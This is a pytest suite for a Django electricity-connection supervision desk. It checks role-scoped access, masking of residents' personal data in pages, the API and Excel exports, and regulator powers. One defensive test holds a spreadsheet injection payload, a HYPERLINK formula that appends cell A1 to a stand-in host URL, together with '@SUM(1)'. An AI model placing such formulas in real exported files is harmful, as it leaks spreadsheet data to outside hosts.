"""Access by role for every page and endpoint of the desk: out of scope is a 404, never 403."""

from __future__ import annotations

import datetime as dt
import io
import json
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from getelec.accounts.testing import ORGANISATION_CASES
from getelec.supervision import selectors, services
from getelec.supervision.models import LedgerAssignment, ProgressReport
from getelec.supervision.services import FilingInput

pytestmark = pytest.mark.usefixtures("frozen")
D = dt.date


@pytest.fixture
def desk(users: dict[str, Any], orgs: Any, blocked: Any) -> dict[str, Any]:
    """The ledger, one report on company A's row 8, one submitted filing of company A and its
    October batch."""
    services.load_ledger("test")
    a8 = LedgerAssignment.objects.get(task__number=8, organisation=orgs["company_a"])
    report = services.file_progress_report(users["staff_a"], a8, 2026, 3, "签约12份")
    app = blocked(due_on=D(2026, 11, 20))
    filing = services.create_filing(
        users["staff_a"],
        app,
        FilingInput(
            project_name="项目",
            cause="administrative_approval",
            cause_detail="占道审批未批复",
            upgrade_project="道路挖掘许可",
            committed_on=D(2026, 12, 15),
            measures="协调住建部门",
            customer_informed_on=D(2026, 9, 11),
            customer_informed_how="短信",
            contact="张工",
        ),
    )
    import time_machine

    with time_machine.travel("2026-10-12 10:00 +0800", tick=False):
        filing = services.submit_filing(users["staff_a"], filing, filing.version)
    batch = services.submit_batch(users["staff_a"], orgs["company_a"], D(2026, 10, 1))
    return {"report": report, "filing": filing, "batch": batch, "app": app}


def client_for(user: Any) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


PAGES = [
    # (url name, kwargs key, {role: expected status})
    ("supervision:index", None),
    ("supervision:ledger", None),
    ("supervision:ledger_export", None),
    ("supervision:filings", None),
    ("supervision:batches", None),
]
DESK = {
    "staff_a": 200,
    "staff_b": 200,
    "regulator_ndrc": 200,
    "energy_yinchuan": 200,
    "department": 200,
    "admin": 200,
    "applicant": 404,
}


@pytest.mark.parametrize("name", [p[0] for p in PAGES])
@pytest.mark.parametrize("who", list(DESK))
def test_desk_lists_open_to_desk_roles_only(
    desk: Any, users: dict[str, Any], name: str, who: str
) -> None:
    response = client_for(users[who]).get(reverse(name))
    assert response.status_code == DESK[who]


@pytest.mark.parametrize("name", [p[0] for p in PAGES])
def test_anonymous_users_are_sent_to_log_in(desk: Any, name: str) -> None:
    response = Client().get(reverse(name))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("staff_a", 200),
        ("staff_b", 200),
        ("regulator_nea", 200),
        ("department", 404),
        ("applicant", 404),
    ],
)
def test_a_ledger_row_is_visible_to_its_units_and_regulators(
    desk: Any, users: dict[str, Any], who: str, status: int
) -> None:
    assert client_for(users[who]).get(reverse("supervision:task", args=[8])).status_code == status


def test_a_unit_sees_only_its_own_reports_on_a_shared_row(desk: Any, users: dict[str, Any]) -> None:
    url = reverse("supervision:task", args=[8])
    assert "签约12份" in client_for(users["staff_a"]).get(url).content.decode()
    assert "签约12份" not in client_for(users["staff_b"]).get(url).content.decode()
    assert "签约12份" in client_for(users["regulator_ndrc"]).get(url).content.decode()


def test_reporting_and_reviewing_through_the_web(
    desk: Any, users: dict[str, Any], orgs: Any
) -> None:
    a8 = LedgerAssignment.objects.get(task__number=8, organisation=orgs["company_b"])
    url = reverse("supervision:file_report", args=[8])
    data = {"assignment": a8.pk, "period": "2026Q3", "progress": "in_progress", "text": "进展"}
    assert client_for(users["staff_a"]).post(url, data).status_code == 404  # not A's unit
    assert client_for(users["staff_b"]).post(url, data).status_code == 302
    assert ProgressReport.objects.filter(assignment=a8).count() == 1
    review = reverse("supervision:review", args=[desk["report"].pk])
    assert client_for(users["staff_b"]).post(review, {"decision": "accepted"}).status_code == 404
    client_for(users["staff_a"]).post(review, {"decision": "accepted"})  # own: not allowed
    desk["report"].refresh_from_db()
    assert desk["report"].review == "pending"
    client_for(users["regulator_nea"]).post(review, {"decision": "returned", "comment": "补充"})
    desk["report"].refresh_from_db()
    assert (desk["report"].review, desk["report"].review_comment) == ("returned", "补充")


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("staff_a", 200),
        ("staff_b", 404),
        ("regulator_ndrc", 200),
        ("energy_yinchuan", 200),
        ("department", 404),
        ("applicant", 404),
        ("admin", 200),
    ],
)
def test_a_filing_and_its_batch_are_visible_in_scope_only(
    desk: Any, users: dict[str, Any], who: str, status: int
) -> None:
    client = client_for(users[who])
    for url in (
        reverse("supervision:filing", args=[desk["filing"].pk]),
        reverse("supervision:batch", args=[desk["batch"].pk]),
        reverse("supervision:batch_export", args=[desk["batch"].pk]),
        f"/api/v1/supervision/filings/{desk['filing'].pk}",
        f"/api/v1/supervision/batches/{desk['batch'].pk}",
    ):
        assert client.get(url).status_code == status, url


@pytest.mark.parametrize("who", ["staff_b", "regulator_ndrc", "applicant"])
def test_only_the_company_edits_its_filing(desk: Any, users: dict[str, Any], who: str) -> None:
    client = client_for(users[who])
    assert (
        client.get(reverse("supervision:filing_edit", args=[desk["filing"].pk])).status_code == 404
    )
    assert (
        client.get(reverse("supervision:filing_new", args=[desk["app"].number])).status_code == 404
    )


def test_the_company_revises_through_the_web_with_a_reason(
    desk: Any, users: dict[str, Any]
) -> None:
    filing = desk["filing"]
    url = reverse("supervision:filing_edit", args=[filing.pk])
    client = client_for(users["staff_a"])
    page = client.get(url)
    assert page.status_code == 200 and "修订原因" in page.content.decode()
    data = {
        **{k: v for k, v in page.context["form"].initial.items()},
        "reason": "审批延期",
        "committed_on": "2027-01-10",
        "version": filing.version,
    }
    assert client.post(url, data).status_code == 302
    assert filing.revisions.count() == 2


@pytest.mark.parametrize(
    ("who", "status", "count"),
    [
        ("regulator_ndrc", 200, 53),
        ("staff_a", 200, 43),
        ("department", 200, 5),
        ("applicant", 404, None),
    ],
)
def test_the_ledger_api_is_scoped(
    desk: Any, users: dict[str, Any], who: str, status: int, count: int | None
) -> None:
    response = client_for(users[who]).get("/api/v1/supervision/ledger")
    assert response.status_code == status
    if count is not None:
        assert len(response.json()) == count


def test_the_api_needs_a_login(desk: Any) -> None:
    assert Client().get("/api/v1/supervision/ledger").status_code in (401, 403)


def test_the_ledger_export_has_the_layout_of_annex_2(desk: Any, users: dict[str, Any]) -> None:
    response = client_for(users["regulator_ndrc"]).get(reverse("supervision:ledger_export"))
    ws = load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0][0] == "深化提升“获得电力”服务水平工作任务台账"
    assert rows[2][:4] == ["序号", "工作任务", "责任单位", "完成时限"]
    assert rows[3][0] == "综合类"
    assert rows[4][0] == 1 and rows[4][3] == "持续推进"
    row2 = next(r for r in rows if r[0] == 2)
    assert row2[2] == "各供电企业" and row2[3] == "2025年底前"
    assert row2[4].date() == D(2025, 12, 31) and row2[5] == "逾期"
    sections = [r[0] for r in rows if isinstance(r[0], str) and r[1] is None][2:]
    assert sections == [
        "综合类",
        "办电便捷化",
        "供电高质化",
        "用电绿色化",
        "服务普惠化",
        "监管协同化",
    ]
    assert sum(isinstance(r[0], int) for r in rows) == 53


def test_the_batch_export_is_a_filled_in_form(desk: Any, users: dict[str, Any]) -> None:
    response = client_for(users["regulator_nea"]).get(
        reverse("supervision:batch_export", args=[desk["batch"].pk])
    )
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames[0] == "报送汇总"
    form = {r[0].value: r[1].value for r in wb.worksheets[1].iter_rows(min_row=2)}
    assert form["无法满足时限的原因"] == "行政审批"
    assert form["承诺完成（接电）日期"] == "2026-12-15"
    assert form["申请编号"] == desk["app"].number


def test_the_report_form_states_the_platforms_upload_limit(
    desk: Any, users: dict[str, Any], settings: Any
) -> None:
    settings.DOCUMENT_MAX_BYTES = 5 * 1024 * 1024
    page = client_for(users["staff_a"]).get(reverse("supervision:task", args=[8])).content.decode()
    assert "每个不超过5MB" in page and "10MB" not in page
    from django.utils import translation

    with translation.override("en"):
        text = translation.gettext("附件（PDF、图片、Word、Excel，每个不超过%(mb)sMB）")
    assert text % {"mb": "5"} == "Attachments (PDF, images, Word, Excel; at most 5 MB each)"


# --------------------------------------------------------------------------------------------
# Personal data by role × field (pages, API and exports alike)
# --------------------------------------------------------------------------------------------

RESIDENT = "张三丰"
ADDRESS = "银川市兴庆区解放东街12号楼3单元502"
MASKED_NAME = "张**"
MASKED_ADDRESS = "银川市兴庆区解放东街12号楼****"


def _text(response: Any) -> str:
    if response["Content-Type"].startswith("application/vnd.openxmlformats"):
        wb = load_workbook(io.BytesIO(response.content))
        return " ".join(
            str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row
        )
    if response["Content-Type"].startswith("application/json"):
        return json.dumps(response.json(), ensure_ascii=False)
    return response.content.decode()


@pytest.fixture
def resident(users: dict[str, Any], orgs: Any, blocked: Any) -> dict[str, Any]:
    """A resident's blocked application of company A with a submitted filing whose project name
    staff typed with the customer's name, and company A's October batch holding it."""
    app = blocked(
        customer_type="residential",
        customer_name=RESIDENT,
        address=ADDRESS,
        category="lv_residential",
        due_on=D(2026, 11, 20),
    )
    data = services.FilingInput.from_application(app)
    data.project_name = f"{RESIDENT}家用电报装"
    data.cause_detail = f"{RESIDENT}家门前道路占道审批未批复"
    data.measures, data.customer_informed_how, data.contact = "协调住建部门", "短信", "张工"
    data.cause = "administrative_approval"
    filing = services.create_filing(users["staff_a"], app, data)
    import time_machine

    with time_machine.travel("2026-10-12 10:00 +0800", tick=False):
        filing = services.submit_filing(users["staff_a"], filing, filing.version)
    batch = services.submit_batch(users["staff_a"], orgs["company_a"], D(2026, 10, 1))
    return {"app": app, "filing": filing, "batch": batch}


# Who sees the filing at all, and who sees it in full (only the serving company).
FILING_READERS = {
    "staff_a": "full",
    "staff_b": None,
    "regulator_ndrc": "masked",
    "regulator_nea": "masked",
    "energy_yinchuan": "masked",
    "department": None,
    "admin": "masked",
    "applicant": None,
}


def _surfaces(r: dict[str, Any]) -> dict[str, str]:
    return {
        "filing page": reverse("supervision:filing", args=[r["filing"].pk]),
        "filing API": f"/api/v1/supervision/filings/{r['filing'].pk}",
        "batch page": reverse("supervision:batch", args=[r["batch"].pk]),
        "batch API": f"/api/v1/supervision/batches/{r['batch'].pk}",
        "A1 workbook": reverse("supervision:batch_export", args=[r["batch"].pk]),
    }


SURFACES = ["filing page", "filing API", "batch page", "batch API", "A1 workbook"]


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("who", list(FILING_READERS))
def test_personal_data_by_role_and_field(
    resident: dict[str, Any], users: dict[str, Any], who: str, surface: str
) -> None:
    """Outside the serving company a resident's name and the address below the building are
    masked in pages, API and exports; the batch (sent to the regulators) is masked for all."""
    response = client_for(users[who]).get(_surfaces(resident)[surface])
    sees = FILING_READERS[who]
    if sees is None:
        assert response.status_code == 404
        return
    assert response.status_code == 200
    text = _text(response)
    if sees == "full" and surface.startswith("filing"):
        assert ADDRESS in text and f"{RESIDENT}家用电报装" in text
        return
    assert RESIDENT not in text and ADDRESS not in text and "3单元502" not in text
    assert f"{MASKED_NAME}家用电报装" in text
    assert MASKED_ADDRESS in text or surface == "batch page"  # the page lists no address


@pytest.mark.parametrize(
    ("who", "full"),
    [("staff_a", True), ("regulator_ndrc", False), ("regulator_nea", False), ("admin", False)],
)
def test_the_application_api_masks_the_address_outside_the_company(
    resident: dict[str, Any], users: dict[str, Any], who: str, full: bool
) -> None:
    data = client_for(users[who]).get(f"/api/v1/applications/{resident['app'].number}").json()
    assert data["address"] == (ADDRESS if full else MASKED_ADDRESS)
    assert data["customer_name"] == (RESIDENT if full else MASKED_NAME)


def test_the_default_project_name_carries_no_personal_data(resident: dict[str, Any]) -> None:
    app = resident["app"]
    name = services.FilingInput.from_application(app).project_name
    assert name == f"低压居民用电报装（{app.number}）"
    assert RESIDENT not in name and "解放东街" not in name


# --------------------------------------------------------------------------------------------
# Spreadsheet formula injection in the A1 workbook and the ledger export
# --------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"详情")'


def test_staff_text_never_becomes_a_formula_in_the_exports(
    desk: Any, users: dict[str, Any], orgs: Any
) -> None:
    filing = desk["filing"]
    revision = filing.revisions.get()
    type(revision).objects.filter(pk=revision.pk).update(measures=FORMULA, contact="@SUM(1)")
    from getelec.supervision.selectors import batch_preview

    batch = desk["batch"]
    batch.rows = batch_preview(orgs["company_a"], D(2026, 10, 1), D(2026, 11, 1)).rows
    batch.save(update_fields=["rows"])
    a8 = LedgerAssignment.objects.get(task__number=8, organisation=orgs["company_b"])
    services.file_progress_report(users["staff_b"], a8, 2026, 3, "-1+1 签约")
    client = client_for(users["regulator_nea"])
    texts: dict[str, list[str]] = {}
    for url in (
        reverse("supervision:batch_export", args=[batch.pk]),
        reverse("supervision:ledger_export"),
    ):
        wb = load_workbook(io.BytesIO(client.get(url).content))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        texts[url] = [c.value for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts[url] if t.startswith(("=", "+", "-", "@"))], url
    a1 = texts[reverse("supervision:batch_export", args=[batch.pk])]
    assert "'" + FORMULA in a1 and "'@SUM(1)" in a1


# --------------------------------------------------------------------------------------------
# Powers by organisation: the city energy authority is no province regulator
# --------------------------------------------------------------------------------------------


@pytest.fixture
def ndrc_report(desk: Any, users: dict[str, Any], orgs: Any) -> ProgressReport:
    """A progress report of 自治区发展改革委 on one of its own ledger rows."""
    own = LedgerAssignment.objects.filter(organisation=orgs["ndrc"]).first()
    assert own is not None
    return services.file_progress_report(users["regulator_ndrc"], own, 2026, 3, "发改委进展")


def test_the_city_energy_authority_cannot_return_the_province_regulators_report(
    ndrc_report: ProgressReport, users: dict[str, Any]
) -> None:
    client = client_for(users["energy_yinchuan"])
    review = reverse("supervision:review", args=[ndrc_report.pk])
    assert client.post(review, {"decision": "returned", "comment": "退回"}).status_code == 404
    ndrc_report.refresh_from_db()
    assert ndrc_report.review == "pending"
    assert selectors.can_review(users["energy_yinchuan"], ndrc_report) is False
    assert selectors.can_review(users["regulator_nea"], ndrc_report) is True


def test_the_city_energy_authority_reads_neither_ledger_nor_the_dashboard(
    ndrc_report: ProgressReport, users: dict[str, Any]
) -> None:
    client = client_for(users["energy_yinchuan"])
    assert client.get("/api/v1/supervision/ledger").json() == []
    assert "发改委进展" not in client.get(reverse("supervision:ledger")).content.decode()
    assert client.get(reverse("supervision:dashboard")).status_code == 404
    assert client.get(reverse("outages:ledger")).status_code == 404
    assert client.get(reverse("outages:regulator")).status_code == 404
    assert client.get(reverse("outages:ledger_xlsx")).status_code == 404


def test_the_city_energy_authority_reads_its_citys_filings_and_batches_only(
    desk: Any, users: dict[str, Any], orgs: Any, blocked: Any, regions: Any
) -> None:
    other = blocked(company=orgs["company_b"], due_on=D(2026, 11, 20))
    data = services.FilingInput.from_application(other)
    data.cause, data.cause_detail, data.measures = "administrative_approval", "占道", "协调"
    data.customer_informed_how, data.contact = "短信", "王工"
    filing_b = services.create_filing(users["staff_b"], other, data)
    client = client_for(users["energy_yinchuan"])
    assert client.get(reverse("supervision:filing", args=[desk["filing"].pk])).status_code == 200
    assert client.get(reverse("supervision:filing", args=[filing_b.pk])).status_code == 404
    assert client.get(reverse("supervision:batch", args=[desk["batch"].pk])).status_code == 200
    ids = {f["id"] for f in client.get("/api/v1/supervision/filings").json()}
    assert ids == {desk["filing"].pk}
    # Reading a filing is not reading the application behind it.
    assert client.get(f"/api/v1/applications/{desk['app'].number}").status_code == 404


REVIEWERS = {"drc", "nea"}
WHOLE_LEDGER = {"drc", "nea", "admin"}
QUALITY_READERS = {"drc", "nea", "regulator_city", "regulator_county", "admin"}
SIGNS_OFF = {"nea"}


@pytest.mark.parametrize(
    "key", [c.key for c in ORGANISATION_CASES] + ["admin", "applicant", "anonymous"]
)
def test_deciding_and_reading_powers_by_organisation(
    desk: Any, organisation_users: dict[str, Any], key: str
) -> None:
    """can_review, the whole ledger, the quality desk and sign-off per organisation kind and
    level (not per role flag: every government account here is a regulator by role)."""
    from django.contrib.auth.models import AnonymousUser

    from getelec.outages import selectors as quality

    user = organisation_users[key] or AnonymousUser()
    assert selectors.can_review(user, desk["report"]) is (key in REVIEWERS)
    assert selectors.sees_everything(user) is (key in WHOLE_LEDGER)
    assert quality.sees_everything(user) is (key in QUALITY_READERS)
    assert quality.can_verify(user) is (key in SIGNS_OFF)


def test_the_city_energy_authority_lands_on_the_filings_not_in_a_redirect_loop(
    users: dict[str, Any],
) -> None:
    client = client_for(users["energy_yinchuan"])
    response = client.get(reverse("regulator_list"))
    assert response.status_code == 302 and response["Location"] == reverse("supervision:filings")
    assert "监管查询" not in client.get(reverse("supervision:filings")).content.decode()


def test_the_filing_history_names_each_change_in_chinese(desk: Any, users: dict[str, Any]) -> None:
    body = (
        client_for(users["staff_a"])
        .get(reverse("supervision:filing", args=[desk["filing"].pk]))
        .content.decode()
    )
    assert "新建备案" in body and "提交备案" in body
    assert "supervision.create_filing" not in body and "supervision.submit_filing" not in body
